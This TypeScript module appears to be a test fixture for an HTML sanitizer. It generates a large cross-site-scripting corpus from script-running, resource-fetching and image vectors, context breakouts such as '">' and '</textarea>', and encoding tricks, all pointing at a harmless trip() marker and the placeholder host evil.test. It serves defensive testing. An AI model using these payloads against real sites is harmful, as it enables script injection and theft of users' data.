import { spread } from '../../thorough.ts'
import type { Attempt } from './attempt.ts'

/**
 * Markup that runs or fetches something where it becomes nodes: vectors × contexts × encodings. Each string carries its
 * own number, so that what fires the tripwire can be named.
 */
export interface Attack {
  readonly text: string
  /** `pictures`: it only shows a picture of another host, which some may do. */
  readonly does: 'runs' | 'fetches' | 'pictures'
}

type Make = (code: string, address: string) => string

const running: readonly Make[] = [
  code => `<script>${code}</script>`,
  (_, address) => `<script src="${address}"></script>`,
  code => `<img src=x onerror=${code}>`,
  code => `<img src="x" onerror="${code}">`,
  code => `<image src=x onerror=${code}>`,
  code => `<svg onload=${code}>`,
  code => `<svg><script>${code}</script></svg>`,
  code => `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
  code => `<svg><set onbegin=${code} attributeName=x dur=1s></svg>`,
  code =>
    `<svg><a><animate attributeName=href values="javascript:${code}"></animate><text>x</text></a></svg>`,
  code => `<svg><foreignObject><iframe srcdoc="<script>${code}</script>"></iframe></foreignObject></svg>`,
  code => `<svg><style><img src=x onerror=${code}></style></svg>`,
  code => `<body onload=${code}>`,
  code => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  code => `<iframe src="javascript:${code}"></iframe>`,
  code => `<iframe onload=${code}></iframe>`,
  code => `<frameset onload=${code}><frame src="javascript:${code}"></frameset>`,
  code => `<object data="javascript:${code}"></object>`,
  code => `<object data="data:text/html,<script>${code}</script>"></object>`,
  code => `<embed src="javascript:${code}">`,
  code => `<a href="javascript:${code}">x</a>`,
  code => `<a href="x" ping="javascript:${code}" onclick=${code}>x</a>`,
  code => `<area href="javascript:${code}">`,
  code => `<form action="javascript:${code}"><input type=submit></form>`,
  code => `<input type=image src=x onerror=${code}>`,
  code => `<input autofocus onfocus=${code}>`,
  code => `<x tabindex=1 autofocus onfocus=${code}>x</x>`,
  code => `<p contenteditable autofocus onfocus=${code}>x</p>`,
  code => `<details open ontoggle=${code}>x</details>`,
  code => `<video><source onerror=${code} src=x></video>`,
  code => `<video src=x onerror=${code}></video>`,
  code => `<audio src=x onerror=${code}></audio>`,
  code => `<video controls><track src=x onerror=${code} default></video>`,
  code => `<marquee onstart=${code}>x</marquee>`,
  code => `<math><maction actiontype="statusline#x" xlink:href="javascript:${code}">x</maction></math>`,
  code => `<math href="javascript:${code}">x</math>`,
  code => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  code => `<link rel=import href="data:text/html,<script>${code}</script>">`,
  code => `<style onload=${code}></style>`,
  code => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${code}>x</p>`,
  code => `<p style="transition:all 1s" ontransitionrun=${code}>x</p>`,
  code => `<p onpointerover=${code} onclick=${code}>x</p>`,
  code => `<select autofocus onfocus=${code}><option>x</select>`,
  code => `<dialog open onclose=${code}><form method=dialog><button autofocus>x</button></form></dialog>`,
  code => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  code => `<textarea><img title="</textarea><img src=x onerror=${code}>">`,
  code =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  code => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  code => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  code => `<table><caption><svg><title><template><style></title><img src=x onerror=${code}>`,
  code => `<select><template><img src=x onerror=${code}></template></select><img src=x onerror=${code}>`,
  code => `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
  code => `<div><template shadowrootmode=open><script>${code}</script></template></div>`,
  code => `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  code => `<!--><img src=x onerror=${code}>-->`,
  code => `<![CDATA[><img src=x onerror=${code}>]]>`,
  code => `<?xml ?><img src=x onerror=${code}>`,
  code => `<img src=x onerror="${code}"//`,
]

const fetching: readonly Make[] = [
  (_, address) => `<style>@import "${address}";</style>`,
  (_, address) => `<style>*{background:url(${address})}</style>`,
  (_, address) => `<link rel=stylesheet href="${address}">`,
  (_, address) => `<link rel=preload as=script href="${address}">`,
  (_, address) => `<iframe src="${address}"></iframe>`,
  (_, address) => `<object data="${address}"></object>`,
  (_, address) => `<embed src="${address}">`,
  (_, address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (_, address) => `<base href="${address}/"><img src="x.png">`,
  (_, address) => `<p style="background:url(${address})">x</p>`,
]

const showing: readonly Make[] = [
  (_, address) => `<img src="${address}">`,
  (_, address) => `<img srcset="${address} 1x">`,
  (_, address) => `<picture><source srcset="${address}"><img alt=""></picture>`,
  (_, address) => `<video poster="${address}"></video>`,
  (_, address) => `<svg><image href="${address}" width=9 height=9 /></svg>`,
  (_, address) => `<table background="${address}"><td>x</table>`,
]

const vectors: readonly (readonly [does: Attack['does'], make: Make])[] = [
  ...running.map(make => ['runs', make] as const),
  ...fetching.map(make => ['fetches', make] as const),
  ...showing.map(make => ['pictures', make] as const),
]

/** What stands before it: ways out of where a careless template would have put the text. */
const contexts = [
  '',
  'Pane ',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</p>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '</svg>',
  '<svg>',
  '<math>',
  '<table><td>',
  '{name}',
]

/** Other ways to write the same; most of them are text to a browser, and must be text to us. */
const encodings: readonly ((text: string) => string)[] = [
  text => text.replace(/<(\/?)(\w+)/g, (_, slash, name) => `<${slash}${String(name).toUpperCase()}`),
  text => text.replace(/\bon([a-z]+)=/g, (_, name) => `oN${String(name).toUpperCase()}=`),
  text => text.replace(/<(\w+) /g, '<$1/'),
  text => text.replace(/<(\w+) /g, '<$1\t\n\f'),
  text => text.replace(/<(\w+) /g, '<$1 x="1"y=\'2\' '),
  text => text.replace(/trip/g, '&#116;&#x72;ip'),
  text => text.replace(/javascript:/g, 'java&Tab;script&colon;'),
  text => text.replace(/=(\w+\(\d+\))/g, '=`$1`'),
  text => text.replace(/>(?=[^>]*$)/, ''),
  text => text.replace(/</g, '<<'),
  text => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  text => text.replace(/</g, '\\u003c'),
  text => text.replace(/</g, '%3C'),
  text => text.replace(/</g, '＜'),
  text => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  text => text.replace(/</g, '<\0'),
  text => `${text}${text}`,
  text => `<b>${text}</b>`,
]
/** Each encoding stands alone, and after the ways out that are used most. */
const before = ['', '">']

const plain = contexts.flatMap(context =>
  vectors.map(([does, make]) => ({ does, make, context, encode: String })),
)
const encoded = encodings.flatMap(encode =>
  before.flatMap(context => vectors.map(([does, make]) => ({ does, make, context, encode }))),
)

export const xss: readonly Attack[] = [...plain, ...encoded]
  // What an encoding leaves as it is has been tried already.
  .filter(({ make, encode }) => encode === String || encode(make('trip(0)', '')) !== make('trip(0)', ''))
  .map(({ does, make, context, encode }, i) => ({
    does,
    text: context + encode(make(`trip(${i})`, `https://evil.test/${i}`)),
  }))

/** Where somebody else's text is shown. Showing one may take its time: then every so many of them are tried. */
export const places = {
  banner: { name: 'the question about cookies, cleaned by the browser', every: 1 },
  parsedBanner: { name: 'the question about cookies, where the browser cannot clean', every: 1 },
  drawn: { name: 'blocks that the server draws, which may show pictures', every: 1 },
  tooltips: { name: 'tooltips', every: 1 },
  forms: { name: "a server's words about a form", every: 1 },
  dialogs: { name: 'dialogs', every: 12 },
  messages: { name: 'the words that a page replaces', every: 20 },
  names: { name: 'names, captions and descriptions', every: 6 },
} as const

export type Place = keyof typeof places

export function attacksIn(place: Place, attacks: readonly Attack[]): readonly Attack[] {
  return attacks.filter(
    ({ does }, i) => i % places[place].every === 0 && !(place === 'drawn' && does === 'pictures'),
  )
}

export const fewXss = 100

const count = (attacks: readonly Attack[]) =>
  Object.keys(places).reduce((sum, place) => sum + attacksIn(place as Place, attacks).length, 0)

export const xssAttempt: Attempt = {
  what: `markup in texts: ${xss.length} strings in ${Object.keys(places).length} places`,
  few: count(spread(xss, fewXss)),
  all: count(xss),
  result: 'nothing runs, nobody is asked, every text is shown',
}
